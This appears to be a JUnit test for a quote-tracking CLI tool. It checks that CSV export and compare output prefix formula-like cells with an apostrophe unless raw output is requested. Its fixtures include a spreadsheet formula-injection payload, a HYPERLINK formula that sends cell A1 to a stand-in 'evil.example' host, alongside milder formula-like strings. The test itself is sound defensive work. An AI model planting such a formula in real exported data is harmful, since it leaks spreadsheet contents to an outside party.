package org.quotebench.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.quotebench.core.Rfc4180;

/**
 * Text from web pages that a spreadsheet would run as a formula: {@code export --format csv} and
 * {@code compare --csv} neutralise it with a leading {@code '} unless {@code --raw-csv} is given.
 */
class CsvFormulaTest {
    static final String TITLE = "=1+2 Ferry talks";
    static final String QUOTE = "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Read more\")";
    static final String ARTICLE = TITLE + "\n\n" + QUOTE + " was written under the photo, the editor said.";

    @TempDir
    Path dir;
    private Path workspace;

    @BeforeEach
    void anArticleWhoseTitleQuoteNoteAndSpeakerLookLikeFormulas() throws Exception {
        workspace = dir.resolve("f.qb");
        Path file = Files.writeString(dir.resolve("ferry.txt"), ARTICLE);
        assertThat(CliRun.run(workspace, "import", file.toString()).exitCode()).isZero();
        int start = ARTICLE.indexOf(QUOTE);
        CliRun add = CliRun.run(workspace, "quote", "add", "1", "--start", Integer.toString(start), "--end",
                Integer.toString(start + QUOTE.length()), "--speaker=-Evil Editor", "--note=@SUM(1+1)\tand a tab",
                "--event=+Ferry strike");
        assertThat(add.exitCode()).as(add.err()).isZero();
    }

    @Test
    void exportNeutralisesTextCellsThatStartLikeFormulasButNotNumbers() throws Exception {
        Path out = dir.resolve("quotes.csv");
        CliRun run = CliRun.run(workspace, "export", "--format", "csv", out.toString());
        assertThat(run.exitCode()).as(run.err()).isZero();
        Map<String, String> row = rows(out).get(0);
        assertThat(row.get("title")).isEqualTo("'" + TITLE);
        assertThat(row.get("text")).isEqualTo("'" + QUOTE);
        assertThat(row.get("speaker")).isEqualTo("'-Evil Editor");
        assertThat(row.get("note")).isEqualTo("'@SUM(1+1)\tand a tab");
        assertThat(row.get("events")).isEqualTo("'+Ferry strike");
        assertThat(row.get("start")).isEqualTo(Integer.toString(ARTICLE.indexOf(QUOTE)));
        assertThat(row.get("article_id")).isEqualTo("1");
    }

    @Test
    void rawCsvKeepsTheCellsAsTheyAre() throws Exception {
        Path out = dir.resolve("raw.csv");
        CliRun run = CliRun.run(workspace, "export", "--format", "csv", out.toString(), "--raw-csv");
        assertThat(run.exitCode()).as(run.err()).isZero();
        Map<String, String> row = rows(out).get(0);
        assertThat(row.get("title")).isEqualTo(TITLE);
        assertThat(row.get("text")).isEqualTo(QUOTE);
        assertThat(row.get("speaker")).isEqualTo("-Evil Editor");
    }

    @Test
    void compareCsvNeutralisesUnlessRaw() throws Exception {
        Path safe = dir.resolve("compare.csv");
        CliRun run = CliRun.run(workspace, "compare", "--article", "1", "--csv", safe.toString());
        assertThat(run.exitCode()).as(run.err()).isZero();
        Map<String, String> row = rows(safe).get(0);
        assertThat(row.get("text")).isEqualTo("'" + QUOTE);
        assertThat(row.get("speaker")).isEqualTo("'-Evil Editor");
        assertThat(row.get("credited_to")).isEqualTo("'-Evil Editor");
        assertThat(row.get("statement")).isEqualTo("1");

        Path raw = dir.resolve("compare-raw.csv");
        CliRun rawRun = CliRun.run(workspace, "compare", "--article", "1", "--csv", raw.toString(), "--raw-csv");
        assertThat(rawRun.exitCode()).as(rawRun.err()).isZero();
        assertThat(rows(raw).get(0).get("text")).isEqualTo(QUOTE);
    }

    /** The rows of a CSV file as column name to cell, read by RFC 4180's rules (after the byte order mark). */
    static List<Map<String, String>> rows(Path file) throws Exception {
        String csv = Files.readString(file, StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFF");
        List<List<String>> lines = Rfc4180.parse(csv.substring(1));
        List<Map<String, String>> rows = new ArrayList<>();
        for (List<String> line : lines.subList(1, lines.size())) {
            Map<String, String> row = new HashMap<>();
            for (int i = 0; i < line.size(); i++) {
                row.put(lines.get(0).get(i), line.get(i));
            }
            rows.add(row);
        }
        return rows;
    }
}
